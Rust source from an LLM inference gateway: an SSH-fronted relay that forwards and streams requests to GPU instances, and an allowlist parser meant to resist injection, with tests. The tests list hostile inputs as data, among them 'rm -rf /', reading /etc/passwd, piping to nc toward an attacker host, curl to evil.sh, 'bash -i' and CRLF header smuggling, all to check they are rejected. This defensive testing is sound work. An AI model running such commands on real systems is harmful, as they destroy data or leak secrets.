        let snapshot = self.routing.snapshot();
        let mut names: Vec<String> = snapshot.iter().map(|e| e.service.clone()).collect();
        names.sort();
        names.dedup();
        for name in names {
            let (total, ready) = self.routing.counts(&name);
            let (expected_hit_rate, prefill_tokens_saved) =
                prefix_cache_stats(&snapshot, &name);
            services = services.set(
                &name,
                Json::obj()
                    .set("instances", total)
                    .set("ready", ready)
                    // Instances finishing in-flight work under a
                    // preemption notice / walltime warning / admin drain.
                    // The federation router treats these as capacity that
                    // is about to disappear.
                    .set("draining", self.routing.draining_count(&name))
                    .set("in_flight", self.demand.in_flight(&name))
                    .set("avg_concurrency", self.demand.avg_concurrency(&name, now))
                    // Guaranteed vs sheddable split, so federation scoring
                    // and autoscaling see what overload control may drop.
                    .set(
                        "guaranteed_concurrency",
                        self.demand
                            .avg_concurrency_class(&name, Priority::Interactive, now),
                    )
                    .set(
                        "sheddable_concurrency",
                        self.demand.avg_concurrency_class(&name, Priority::Batch, now),
                    )
                    // Prefix-cache warmth, so the federation router's
                    // cache-affinity scoring sees per-cluster hit rates.
                    .set("expected_hit_rate", expected_hit_rate)
                    .set("prefill_tokens_saved", prefill_tokens_saved),
            );
        }
        Json::obj().set("status", 200u64).set("services", services)
    }

    fn forward_health(&self, service: &str, ctx: &mut ExecContext) -> i32 {
        let entry = {
            let mut rng = self.rng.lock().unwrap();
            self.routing.pick_ready(service, &mut rng)
        };
        let Some(entry) = entry else {
            let head = Json::obj()
                .set("status", 503u64)
                .set("error", format!("no ready instance for {service}"));
            (ctx.stdout)(format!("{head}\n").as_bytes());
            return EXIT_UPSTREAM;
        };
        let health = crate::util::http::pooled(&entry.addr.unwrap().to_string())
            .and_then(|mut client| client.get("/health"));
        match health {
            Ok(resp) => {
                let head = Json::obj().set("status", resp.status as u64);
                (ctx.stdout)(format!("{head}\n").as_bytes());
                (ctx.stdout)(&resp.body);
                EXIT_OK
            }
            Err(e) => {
                let head = Json::obj()
                    .set("status", 502u64)
                    .set("error", format!("instance unreachable: {e}"));
                (ctx.stdout)(format!("{head}\n").as_bytes());
                EXIT_UPSTREAM
            }
        }
    }

    fn forward_request(&self, req: parser::ForwardRequest, ctx: &mut ExecContext) -> i32 {
        // The trace ID rides the envelope as a plain header; old-format
        // envelopes simply lack it and flow through untraced.
        let trace_id = req
            .headers
            .get("x-chat-ai-trace")
            .and_then(|v| trace::TraceId::parse(v));
        let t0 = std::time::Instant::now();
        let _trace_scope = trace_id.map(trace::scoped);
        let entry = {
            let mut rng = self.rng.lock().unwrap();
            self.routing.pick_ready(&req.service, &mut rng)
        };
        let Some(entry) = entry else {
            // Distinguish "unknown service" from "instances still loading".
            let (total, _) = self.routing.counts(&req.service);
            let (status, msg) = if total == 0 {
                (404u64, format!("unknown service {}", req.service))
            } else {
                (503u64, format!("service {} has no ready instance", req.service))
            };
            let mut head = Json::obj().set("status", status).set("error", msg);
            if let Some(id) = trace_id {
                head = head.set("trace", id.as_str());
            }
            (ctx.stdout)(format!("{head}\n").as_bytes());
            return EXIT_UPSTREAM;
        };
        self.forwarded
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        // Demand is measured per priority class: the scheduler provisions
        // for guaranteed load and discounts sheddable load.
        let priority = req
            .headers
            .get("x-chat-ai-priority")
            .and_then(|v| Priority::parse(v))
            .unwrap_or_default();
        let now = self.clock.now_ms();
        self.demand.begin_class(&req.service, priority, now);

        let mut http_req = Request::new(&req.method, &req.path).with_body(req.body.into_bytes());
        for (k, v) in &req.headers {
            http_req = http_req.with_header(k, v);
        }

        let code = if req.stream {
            self.forward_streaming(&http_req, entry.addr.unwrap().to_string(), trace_id, t0, ctx)
        } else {
            let addr = entry.addr.unwrap().to_string();
            let sent =
                crate::util::http::pooled(&addr).and_then(|mut client| client.send(&http_req));
            match sent {
                Ok(resp) => {
                    if let Some(id) = trace_id {
                        trace::record(
                            id,
                            trace::Hop::CloudInterface,
                            trace::Stage::Ttfb,
                            t0.elapsed(),
                        );
                    }
                    let mut headers = Json::obj();
                    if let Some(ct) = resp.headers.get("content-type") {
                        headers = headers.set("content-type", ct.as_str());
                    }
                    // A shed (429/503) carries the backoff hint end-to-end.
                    if let Some(ra) = resp.headers.get("retry-after") {
                        headers = headers.set("retry-after", ra.as_str());
                    }
                    let mut head = Json::obj()
                        .set("status", resp.status as u64)
                        .set("headers", headers);
                    if let Some(id) = trace_id {
                        head = head.set("trace", id.as_str());
                    }
                    (ctx.stdout)(format!("{head}\n").as_bytes());
                    (ctx.stdout)(&resp.body);
                    EXIT_OK
                }
                Err(e) => {
                    let mut head = Json::obj()
                        .set("status", 502u64)
                        .set("error", format!("upstream error: {e}"));
                    if let Some(id) = trace_id {
                        head = head.set("trace", id.as_str());
                    }
                    (ctx.stdout)(format!("{head}\n").as_bytes());
                    EXIT_UPSTREAM
                }
            }
        };
        self.demand.end_class(&req.service, priority, self.clock.now_ms());
        code
    }

    /// Streaming forward with batched SSH `Stdout` frames. A reader thread
    /// relays the instance's SSE chunks — pool-recycled buffers, never
    /// parsed — into a bounded channel; this (exec) thread drains whatever
    /// is already queued and packs it into one frame, so under load the
    /// exec channel carries N tokens per frame instead of one. The
    /// batching is opportunistic: it never waits for more chunks, so
    /// per-token latency is untouched. Head line travels before any body
    /// byte. The SSH layer trips `ctx.cancel` when the proxy sends a
    /// Cancel frame (its client hung up); the reader then severs our
    /// connection to the instance, which is how the disconnect reaches
    /// the engine.
    fn forward_streaming(
        &self,
        http_req: &Request,
        addr: String,
        trace_id: Option<trace::TraceId>,
        t0: std::time::Instant,
        ctx: &mut ExecContext,
    ) -> i32 {
        use std::sync::atomic::Ordering::Relaxed;
        let cfg = &self.streaming;
        let relay = cfg.relay;
        let cancel = ctx.cancel.clone();
        let (chunk_tx, chunk_rx) =
            std::sync::mpsc::sync_channel::<PooledBuf>(cfg.chunk_buffer.max(1));
        let (head_tx, head_rx) =
            std::sync::mpsc::sync_channel::<(u16, Option<String>, Option<String>)>(1);
        let http_req = http_req.clone();
        let reader = std::thread::spawn(
            move || -> (bool, Result<StreamOutcome, HttpError>) {
                let pool = relay.then(crate::util::http::relay_pool);
                let mut sent_head = false;
                let result = crate::util::http::pooled(&addr).and_then(|mut client| {
                    client.relay_until(
                        &http_req,
                        pool.as_ref(),
                        |status, headers| {
                            sent_head = true;
                            let _ = head_tx.send((
                                status,
                                headers.get("content-type").cloned(),
                                headers.get("retry-after").cloned(),
                            ));
                        },
                        |chunk| {
                            if cancel.is_cancelled() {
                                return false;
                            }
                            chunk_tx.send(chunk).is_ok()
                        },
                    )
                });
                (sent_head, result)
            },
        );

        // Head line first (the upstream answered; `head_tx` hangs up
        // without a send when the connect itself failed).
        let mut wrote_head = false;
        let mut head_status: Option<u16> = None;
        if let Ok((status, ct, retry_after)) = head_rx.recv() {
            head_status = Some(status);
            let mut hdrs = Json::obj();
            if let Some(ct) = ct {
                hdrs = hdrs.set("content-type", ct.as_str());
            }
            // Admission-control sheds answer a would-be stream with a
            // buffered 429; the backpressure hint must survive this hop.
            if let Some(ra) = retry_after {
                hdrs = hdrs.set("retry-after", ra.as_str());
            }
            let mut head = Json::obj().set("status", status as u64).set("headers", hdrs);
            if let Some(id) = trace_id {
                head = head.set("trace", id.as_str());
            }
            (ctx.stdout)(format!("{head}\n").as_bytes());
            wrote_head = true;
        }

        // Drain chunks into (batched) frames until the reader hangs up. A
        // chunk that would push the batch past the frame cap is carried
        // into the next frame instead — one oversized chunk must never
        // produce a frame beyond MAX_FRAME (which would kill the whole
        // multiplexed SSH connection, not just this stream).
        let mut batch: Vec<u8> = Vec::new();
        let mut carry: Option<PooledBuf> = None;
        let mut ttfb_seen = false;
        loop {
            let first = match carry.take() {
                Some(c) => c,
                None => match chunk_rx.recv() {
                    Ok(c) => c,
                    Err(_) => break,
                },
            };
            if first.is_empty() {
                continue;
            }
            // First body byte about to go out over SSH: this hop's TTFB.
            // One-time latch; the per-token relay loop stays untouched.
            if !ttfb_seen {
                ttfb_seen = true;
                if let Some(id) = trace_id {
                    let ttfb = t0.elapsed();
                    trace::record(id, trace::Hop::CloudInterface, trace::Stage::Ttfb, ttfb);
                }
            }
            if relay {
                batch.clear();
                batch.extend_from_slice(first.as_slice());
                drop(first); // recycle the buffer before blocking again
                let mut merged = 0u64;
                while batch.len() < FRAME_BATCH_BYTES {
                    match chunk_rx.try_recv() {
                        Ok(c) => {
                            if batch.len() + c.len() > FRAME_BATCH_BYTES {
                                carry = Some(c);
                                break;
                            }
                            batch.extend_from_slice(c.as_slice());
                            merged += 1;
                        }
                        Err(_) => break,
                    }
                }
                if merged > 0 {
                    self.stream_stats.frames_batched.fetch_add(merged, Relaxed);
                }
                self.stream_stats
                    .bytes_forwarded
                    .fetch_add(batch.len() as u64, Relaxed);
                (ctx.stdout)(&batch);
            } else {
                (ctx.stdout)(first.as_slice());
            }
        }

        // A panicked reader must surface as an upstream error (incl. the
        // 502 head if none was written), never as a clean stream.
        let (sent_head, result) = reader.join().unwrap_or_else(|_| {
            (
                false,
                Err(HttpError::Io(std::io::Error::other(
                    "relay reader panicked",
                ))),
            )
        });
        match result {
            // Complete, or aborted on cancel — both clean.
            Ok(_) => EXIT_OK,
            Err(e) => {
                if !sent_head && !wrote_head {
                    let mut head = Json::obj()
                        .set("status", 502u64)
                        .set("error", format!("upstream error: {e}"));
                    if let Some(id) = trace_id {
                        head = head.set("trace", id.as_str());
                    }
                    (ctx.stdout)(format!("{head}\n").as_bytes());
                } else if head_status == Some(200) && !ctx.cancel.is_cancelled() {
                    // The instance died mid-stream without a terminal
                    // frame — a walltime or preemption kill severed the
                    // socket. Without this the client waits forever on a
                    // stream nobody will ever finish; synthesize a traced
                    // terminal event so every accepted stream terminates.
                    let mut payload = Json::obj().set(
                        "error",
                        Json::obj()
                            .set("message", format!("instance lost mid-stream: {e}"))
                            .set("code", "instance_lost"),
                    );
                    if let Some(id) = trace_id {
                        payload = payload.set("trace", id.as_str());
                    }
                    (ctx.stdout)(format!("event: error\ndata: {payload}\n\n").as_bytes());
                    self.stream_stats
                        .terminal_errors_synthesized
                        .fetch_add(1, Relaxed);
                }
                EXIT_UPSTREAM
            }
        }
    }
}

/// Sum prefix-cache stats (`GET /stats/cache`) across a service's ready
/// engines: the probe payload reports the cluster-level hit rate and the
/// cumulative prefill tokens the cache saved. Unreachable or pre-catalog
/// instances simply contribute nothing — the probe must never fail on a
/// stats scrape.
fn prefix_cache_stats(
    snapshot: &[crate::scheduler::InstanceEntry],
    service: &str,
) -> (f64, u64) {
    let mut requests = 0u64;
    let mut hits = 0u64;
    let mut saved = 0u64;
    for entry in snapshot.iter().filter(|e| e.service == service && e.ready) {
        let Some(addr) = entry.addr else { continue };
        let Ok(resp) = crate::util::http::pooled(&addr.to_string())
            .and_then(|mut client| client.get("/stats/cache"))
        else {
            continue;
        };
        let Ok(v) = resp.json() else { continue };
        requests += v.u64_field("requests").unwrap_or(0);
        hits += v.u64_field("prefix_hits").unwrap_or(0);
        saved += v.u64_field("prefill_tokens_saved").unwrap_or(0);
    }
    let hit_rate = if requests > 0 {
        hits as f64 / requests as f64
    } else {
        0.0
    };
    (hit_rate, saved)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scheduler::InstanceEntry;
    use crate::ssh::{AuthorizedKey, SshClient, SshServer, SshServerConfig};
    use crate::util::clock::RealClock;
    use crate::util::http::{Response, Server};
    use std::sync::atomic::{AtomicU64, Ordering};

    const KEY: &str = "SHA256:functional";

    struct Fixture {
        _upstream: Server,
        _sshd: SshServer,
        client: SshClient,
        ci: Arc<CloudInterface>,
        sched_runs: Arc<AtomicU64>,
    }

    /// Full chain: SSH client → sshd (ForceCommand) → CloudInterface →
    /// routing table → HTTP upstream standing in for an LLM server.
    fn fixture() -> Fixture {
        let upstream = Server::serve(
            "127.0.0.1:0",
            "mock-llm",
            2,
            Arc::new(|req: &crate::util::http::Request| match req.path.as_str() {
                "/health" => Response::text(200, "ok"),
                "/v1/chat/completions" => Response::json(
                    200,
                    &Json::obj().set("object", "chat.completion").set(
                        "echo",
                        String::from_utf8_lossy(&req.body).to_string(),
                    ),
                ),
                "/v1/stream" => {
                    let (resp, tx) = Response::stream(200, 8);
                    std::thread::spawn(move || {
                        for i in 0..3 {
                            tx.send(format!("tok{i};").into_bytes().into()).unwrap();
                        }
                    });
                    resp
                }
                _ => Response::error(404, "nope"),
            }),
        )
        .unwrap();

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "llama3-70b".into(),
            job: 1,
            node: "ggpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, upstream.addr());
        // A known service with no ready instance (still loading).
        routing.insert(InstanceEntry {
            service: "qwen2-72b".into(),
            job: 2,
            node: "ggpu02".into(),
            port: 40002,
            addr: None,
            ready: false,
        });

        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let sched_runs = Arc::new(AtomicU64::new(0));
        let trigger_count = sched_runs.clone();
        let ci = CloudInterface::new(
            routing,
            demand,
            clock,
            Arc::new(move || {
                trigger_count.fetch_add(1, Ordering::SeqCst);
            }),
            7,
        );

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));
        let client = SshClient::connect(sshd.addr(), KEY).unwrap();
        Fixture {
            _upstream: upstream,
            _sshd: sshd,
            client,
            ci,
            sched_runs,
        }
    }

    fn envelope(service: &str, path: &str, body: &str, stream: bool) -> Vec<u8> {
        Json::obj()
            .set("service", service)
            .set("method", "POST")
            .set("path", path)
            .set("body", body)
            .set("stream", stream)
            .to_string()
            .into_bytes()
    }

    /// Split the stdout envelope into (head json, body bytes).
    fn split_envelope(stdout: &[u8]) -> (Json, Vec<u8>) {
        let pos = stdout.iter().position(|b| *b == b'\n').expect("head line");
        let head = crate::util::json::parse(&String::from_utf8_lossy(&stdout[..pos])).unwrap();
        (head, stdout[pos + 1..].to_vec())
    }

    #[test]
    fn ping_triggers_scheduler() {
        let f = fixture();
        let out = f.client.exec("saia ping", b"").unwrap();
        assert_eq!(out.exit_code, EXIT_OK);
        assert_eq!(out.stdout, b"pong\n");
        assert_eq!(f.sched_runs.load(Ordering::SeqCst), 1);
    }

    #[test]
    fn request_forwards_to_instance() {
        let f = fixture();
        let out = f
            .client
            .exec(
                "saia request",
                &envelope("llama3-70b", "/v1/chat/completions", "{\"x\":1}", false),
            )
            .unwrap();
        assert_eq!(out.exit_code, EXIT_OK);
        let (head, body) = split_envelope(&out.stdout);
        assert_eq!(head.u64_field("status"), Some(200));
        let v = crate::util::json::parse(&String::from_utf8_lossy(&body)).unwrap();
        assert_eq!(v.str_field("echo"), Some("{\"x\":1}"));
        assert_eq!(f.ci.forwarded.load(Ordering::Relaxed), 1);
        // demand bracket closed
        assert_eq!(f.ci.demand.in_flight("llama3-70b"), 0);
        assert_eq!(f.ci.demand.total("llama3-70b"), 1);
    }

    #[test]
    fn streaming_request_streams_tokens() {
        let f = fixture();
        let mut chunks: Vec<Vec<u8>> = Vec::new();
        let code = f
            .client
            .exec_streaming(
                "saia request",
                &envelope("llama3-70b", "/v1/stream", "", true),
                |c| chunks.push(c.to_vec()),
            )
            .unwrap();
        assert_eq!(code, EXIT_OK);
        let all: Vec<u8> = chunks.concat();
        let (head, body) = split_envelope(&all);
        assert_eq!(head.u64_field("status"), Some(200));
        assert_eq!(String::from_utf8_lossy(&body), "tok0;tok1;tok2;");
    }

    #[test]
    fn unknown_service_is_404_loading_service_is_503() {
        let f = fixture();
        let out = f
            .client
            .exec(
                "saia request",
                &envelope("nonexistent", "/v1/chat/completions", "", false),
            )
            .unwrap();
        assert_eq!(out.exit_code, EXIT_UPSTREAM);
        let (head, _) = split_envelope(&out.stdout);
        assert_eq!(head.u64_field("status"), Some(404));

        let out = f
            .client
            .exec(
                "saia request",
                &envelope("qwen2-72b", "/v1/chat/completions", "", false),
            )
            .unwrap();
        let (head, _) = split_envelope(&out.stdout);
        assert_eq!(head.u64_field("status"), Some(503));
    }

    #[test]
    fn injection_attempts_are_rejected_and_audited() {
        let f = fixture();
        for attack in [
            "saia ping; cat /etc/passwd",
            "bash -i",
            "saia request $(reboot)",
        ] {
            let out = f.client.exec(attack, b"{}").unwrap();
            assert_eq!(out.exit_code, EXIT_VIOLATION, "attack: {attack}");
            let (head, _) = split_envelope(&out.stdout);
            assert_eq!(head.u64_field("status"), Some(400));
        }
        assert_eq!(f.ci.violations.load(Ordering::Relaxed), 3);
        assert_eq!(f.ci.forwarded.load(Ordering::Relaxed), 0, "nothing forwarded");
    }

    #[test]
    fn probe_reports_routing_status() {
        let f = fixture();
        f.ci.routing.mark_draining(1);
        let out = f.client.exec("saia probe", b"").unwrap();
        assert_eq!(out.exit_code, EXIT_OK);
        let head = crate::util::json::parse(
            String::from_utf8_lossy(&out.stdout).trim(),
        )
        .unwrap();
        let services = head.get("services").unwrap();
        assert_eq!(
            services.get("llama3-70b").unwrap().u64_field("ready"),
            Some(1)
        );
        assert_eq!(
            services.get("qwen2-72b").unwrap().u64_field("ready"),
            Some(0)
        );
        // Load fields for federation scoring are present.
        let llama = services.get("llama3-70b").unwrap();
        assert_eq!(llama.u64_field("in_flight"), Some(0));
        assert!(llama.f64_field("avg_concurrency").is_some());
        // Prefix-cache warmth fields for cache-affinity routing. The mock
        // upstream has no /stats/cache, so they report cold — but they
        // must be present and the probe must not fail on the scrape.
        assert_eq!(llama.f64_field("expected_hit_rate"), Some(0.0));
        assert_eq!(llama.u64_field("prefill_tokens_saved"), Some(0));
        // Draining counts surface so federation scoring can discount
        // capacity that is about to disappear.
        assert_eq!(llama.u64_field("draining"), Some(1));
        assert_eq!(
            services.get("qwen2-72b").unwrap().u64_field("draining"),
            Some(0)
        );
    }

    /// A walltime- or preemption-killed instance severs its sockets with
    /// no terminal SSE frame. The relay must synthesize a traced terminal
    /// `event: error` so the client never hangs on a dead stream.
    #[test]
    fn cut_stream_synthesizes_terminal_error() {
        use crate::util::streaming::CancelToken;

        let upstream = Server::serve(
            "127.0.0.1:0",
            "mock-llm-cut",
            2,
            Arc::new(|_req: &crate::util::http::Request| {
                let (resp, tx) = Response::stream(200, 2);
                std::thread::spawn(move || {
                    // Keep producing until the severed socket kills the
                    // write side (dropping tx would end the stream *cleanly*,
                    // which is not the failure under test).
                    loop {
                        std::thread::sleep(std::time::Duration::from_millis(10));
                        if tx.send(b"tok;".to_vec().into()).is_err() {
                            break;
                        }
                    }
                });
                resp
            }),
        )
        .unwrap();

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "llama3-70b".into(),
            job: 1,
            node: "ggpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, upstream.addr());
        let ci = CloudInterface::new(
            routing,
            Arc::new(DemandTracker::new(60_000)),
            Arc::new(RealClock::new()),
            Arc::new(|| {}),
            11,
        );

        let trace = "deadbeefcafe0123";
        let stdin = Json::obj()
            .set("service", "llama3-70b")
            .set("method", "POST")
            .set("path", "/v1/stream")
            .set("headers", Json::obj().set("x-chat-ai-trace", trace))
            .set("body", "")
            .set("stream", true)
            .to_string()
            .into_bytes();

        // Sever the upstream mid-stream (walltime kill) from a side thread.
        let stopper = std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_millis(150));
            drop(upstream); // Server::drop cuts in-flight connections
        });

        let mut out: Vec<u8> = Vec::new();
        let mut stdout = |b: &[u8]| out.extend_from_slice(b);
        let mut ctx = ExecContext {
            original_command: "saia request".into(),
            forced: true,
            stdin,
            stdout: &mut stdout,
            cancel: CancelToken::new(),
        };
        let code = ci.run(&mut ctx);
        stopper.join().unwrap();

        assert_eq!(code, EXIT_UPSTREAM);
        let text = String::from_utf8_lossy(&out);
        let (head, _) = split_envelope(&out);
        assert_eq!(head.u64_field("status"), Some(200), "stream had started");
        assert!(text.contains("event: error"), "terminal frame missing: {text}");
        assert!(text.contains("instance_lost"), "{text}");
        assert!(text.contains(trace), "terminal frame must carry the trace id");
        assert_eq!(
            ci.stream_stats
                .terminal_errors_synthesized
                .load(Ordering::Relaxed),
            1
        );
    }

    #[test]
    fn probe_service_hits_gpu_node_health() {
        let f = fixture();
        let out = f.client.exec("saia probe llama3-70b", b"").unwrap();
        assert_eq!(out.exit_code, EXIT_OK);
        let (head, body) = split_envelope(&out.stdout);
        assert_eq!(head.u64_field("status"), Some(200));
        assert_eq!(body, b"ok");
    }
}
