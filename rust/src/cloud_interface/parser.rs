//! Injection-safe parsing of the Cloud Interface Script's inputs (§5.5,
//! §6.1.2).
//!
//! The script receives the client's requested command string (OpenSSH's
//! `SSH_ORIGINAL_COMMAND`) plus a JSON envelope on stdin. The paper calls
//! out exactly this surface: *"we bring extra attention to the
//! implementation of the input parsing ... to protect against injection
//! attacks, restricting any request to follow a preset of determined paths,
//! and avoiding any potentially dangerous commands such as eval"*.
//!
//! Accordingly the parser is a strict allowlist: three verbs, tight
//! grammars for every field, and no string ever reaches anything
//! shell-like (there is no shell in this binary at all — defense in depth
//! on top of the registry-based exec).

use std::collections::HashMap;

use crate::util::json::{self, Json};

/// Hard cap on the envelope body (matches the HTTP layer).
pub const MAX_ENVELOPE_BYTES: usize = 8 * 1024 * 1024;

/// Parsed, validated operation.
#[derive(Debug, Clone, PartialEq)]
pub enum Op {
    /// Keep-alive ping: triggers a scheduler run, answers "pong".
    Ping,
    /// Routing-table / health status (optionally for one service).
    Probe { service: Option<String> },
    /// Forward an inference-related HTTP request to a service instance.
    Request(ForwardRequest),
}

/// A validated request to forward.
#[derive(Debug, Clone, PartialEq)]
pub struct ForwardRequest {
    pub service: String,
    pub method: String,
    pub path: String,
    pub headers: HashMap<String, String>,
    pub body: String,
    pub stream: bool,
}

/// Why an input was rejected. Every rejection is logged and audited in the
/// security tests.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum Violation {
    #[error("unknown verb: {0:?}")]
    UnknownVerb(String),
    #[error("malformed command: {0}")]
    MalformedCommand(String),
    #[error("illegal characters in {0}")]
    IllegalChars(&'static str),
    #[error("field too long: {0}")]
    TooLong(&'static str),
    #[error("bad envelope: {0}")]
    BadEnvelope(String),
    #[error("method not allowed: {0:?}")]
    MethodNotAllowed(String),
    #[error("path not allowed: {0:?}")]
    PathNotAllowed(String),
    #[error("envelope too large")]
    EnvelopeTooLarge,
}

/// Service names: lowercase DNS-label style, bounded length.
pub fn valid_service_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '.')
        && !s.starts_with('-')
}

/// Paths: must start with `/`, only URL-safe chars, no `..` traversal.
fn valid_path(p: &str) -> bool {
    p.starts_with('/')
        && p.len() <= 256
        && p.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '-' | '.'))
        && !p.contains("..")
}

/// Header names/values: conservative charset; no CR/LF (header smuggling).
fn valid_header(name: &str, value: &str) -> bool {
    !name.is_empty()
        && name.len() <= 64
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
        && value.len() <= 1024
        && value
            .chars()
            .all(|c| !c.is_control())
}

/// Allowed forwarding targets — the "preset of determined paths".
const ALLOWED_METHODS: &[&str] = &["GET", "POST"];
const ALLOWED_PATH_PREFIXES: &[&str] = &["/v1/", "/health", "/metrics"];

/// Parse + validate the requested command string.
///
/// Grammar (tokens separated by single spaces):
/// ```text
///   saia ping
///   saia probe [<service>]
///   saia request
/// ```
pub fn parse_command(original: &str) -> Result<CommandVerb, Violation> {
    if original.len() > 256 {
        return Err(Violation::TooLong("command"));
    }
    // Reject control characters and shell metacharacters outright, before
    // any token processing — nothing legitimate contains them.
    if original.chars().any(|c| {
        c.is_control()
            || matches!(
                c,
                ';' | '|' | '&' | '$' | '`' | '(' | ')' | '<' | '>' | '\\' | '\'' | '"' | '*'
                    | '?' | '{' | '}' | '~' | '#' | '!'
            )
    }) {
        return Err(Violation::IllegalChars("command"));
    }
    let tokens: Vec<&str> = original.split(' ').filter(|t| !t.is_empty()).collect();
    match tokens.as_slice() {
        ["saia", "ping"] => Ok(CommandVerb::Ping),
        ["saia", "probe"] => Ok(CommandVerb::Probe { service: None }),
        ["saia", "probe", svc] => {
            if valid_service_name(svc) {
                Ok(CommandVerb::Probe {
                    service: Some(svc.to_string()),
                })
            } else {
                Err(Violation::IllegalChars("service"))
            }
        }
        ["saia", "request"] => Ok(CommandVerb::Request),
        ["saia", other, ..] => Err(Violation::UnknownVerb(other.to_string())),
        _ => Err(Violation::MalformedCommand(original.to_string())),
    }
}

/// The command verb before the stdin envelope is considered.
#[derive(Debug, Clone, PartialEq)]
pub enum CommandVerb {
    Ping,
    Probe { service: Option<String> },
    Request,
}

/// Parse + validate the full operation (command + stdin envelope).
pub fn parse_op(original_command: &str, stdin: &[u8]) -> Result<Op, Violation> {
    match parse_command(original_command)? {
        CommandVerb::Ping => Ok(Op::Ping),
        CommandVerb::Probe { service } => Ok(Op::Probe { service }),
        CommandVerb::Request => {
            if stdin.len() > MAX_ENVELOPE_BYTES {
                return Err(Violation::EnvelopeTooLarge);
            }
            let text = std::str::from_utf8(stdin)
                .map_err(|_| Violation::BadEnvelope("not utf-8".into()))?;
            let v = json::parse(text).map_err(|e| Violation::BadEnvelope(e.to_string()))?;
            Ok(Op::Request(validate_envelope(&v)?))
        }
    }
}

fn validate_envelope(v: &Json) -> Result<ForwardRequest, Violation> {
    let service = v
        .str_field("service")
        .ok_or_else(|| Violation::BadEnvelope("missing service".into()))?;
    if !valid_service_name(service) {
        return Err(Violation::IllegalChars("service"));
    }
    let method = v
        .str_field("method")
        .ok_or_else(|| Violation::BadEnvelope("missing method".into()))?
        .to_uppercase();
    if !ALLOWED_METHODS.contains(&method.as_str()) {
        return Err(Violation::MethodNotAllowed(method));
    }
    let path = v
        .str_field("path")
        .ok_or_else(|| Violation::BadEnvelope("missing path".into()))?;
    if !valid_path(path) || !ALLOWED_PATH_PREFIXES.iter().any(|p| path.starts_with(p)) {
        return Err(Violation::PathNotAllowed(path.to_string()));
    }
    let mut headers = HashMap::new();
    if let Some(Json::Obj(entries)) = v.get("headers") {
        if entries.len() > 32 {
            return Err(Violation::TooLong("headers"));
        }
        for (name, value) in entries {
            let value = value
                .as_str()
                .ok_or_else(|| Violation::BadEnvelope("header value must be string".into()))?;
            if !valid_header(name, value) {
                return Err(Violation::IllegalChars("header"));
            }
            headers.insert(name.to_lowercase(), value.to_string());
        }
    }
    let body = v.str_field("body").unwrap_or("").to_string();
    let stream = v.bool_field("stream").unwrap_or(false);
    Ok(ForwardRequest {
        service: service.to_string(),
        method,
        path: path.to_string(),
        headers,
        body,
        stream,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_legitimate_commands() {
        assert_eq!(parse_command("saia ping").unwrap(), CommandVerb::Ping);
        assert_eq!(
            parse_command("saia probe").unwrap(),
            CommandVerb::Probe { service: None }
        );
        assert_eq!(
            parse_command("saia probe llama3-70b").unwrap(),
            CommandVerb::Probe {
                service: Some("llama3-70b".into())
            }
        );
        assert_eq!(parse_command("saia request").unwrap(), CommandVerb::Request);
    }

    #[test]
    fn rejects_shell_injection_in_command() {
        for attack in [
            "saia ping; rm -rf /",
            "saia probe $(cat /etc/passwd)",
            "saia probe `id`",
            "saia request | nc attacker 4444",
            "saia ping && curl evil.sh",
            "saia probe ../../../etc/shadow",
            "saia probe llama'; DROP TABLE jobs; --",
            "saia request\nrm -rf /",
            "saia probe a\0b",
        ] {
            assert!(
                parse_command(attack).is_err(),
                "attack accepted: {attack:?}"
            );
        }
    }

    #[test]
    fn rejects_unknown_verbs_and_garbage() {
        assert!(matches!(
            parse_command("saia eval x"),
            Err(Violation::UnknownVerb(_))
        ));
        assert!(parse_command("bash -i").is_err());
        assert!(parse_command("").is_err());
        assert!(parse_command(&"a".repeat(500)).is_err());
    }

    fn envelope(service: &str, method: &str, path: &str) -> String {
        Json::obj()
            .set("service", service)
            .set("method", method)
            .set("path", path)
            .set("body", "{}")
            .to_string()
    }

    #[test]
    fn accepts_valid_request_envelope() {
        let op = parse_op("saia request", envelope("llama3-70b", "POST", "/v1/chat/completions").as_bytes())
            .unwrap();
        match op {
            Op::Request(req) => {
                assert_eq!(req.service, "llama3-70b");
                assert_eq!(req.method, "POST");
                assert_eq!(req.path, "/v1/chat/completions");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn rejects_bad_methods_and_paths() {
        for (m, p) in [
            ("DELETE", "/v1/chat/completions"),
            ("PUT", "/v1/models"),
            ("POST", "/etc/passwd"),
            ("POST", "/v1/../../etc/passwd"),
            ("POST", "v1/chat"),
            ("GET", "/admin"),
            ("POST", "/v1/chat;id"),
            ("POST", "/v1/chat completions"),
        ] {
            let env = envelope("llama", m, p);
            assert!(
                parse_op("saia request", env.as_bytes()).is_err(),
                "accepted {m} {p}"
            );
        }
    }

    #[test]
    fn rejects_header_smuggling() {
        let env = Json::obj()
            .set("service", "llama")
            .set("method", "POST")
            .set("path", "/v1/chat/completions")
            .set(
                "headers",
                Json::obj().set("x-evil", "a\r\nx-injected: 1"),
            )
            .to_string();
        assert!(matches!(
            parse_op("saia request", env.as_bytes()),
            Err(Violation::IllegalChars("header"))
        ));
    }

    #[test]
    fn rejects_bad_service_names() {
        for svc in ["", "UPPER", "a b", "-leading", "a/../b", "$(id)", "x".repeat(100).as_str()] {
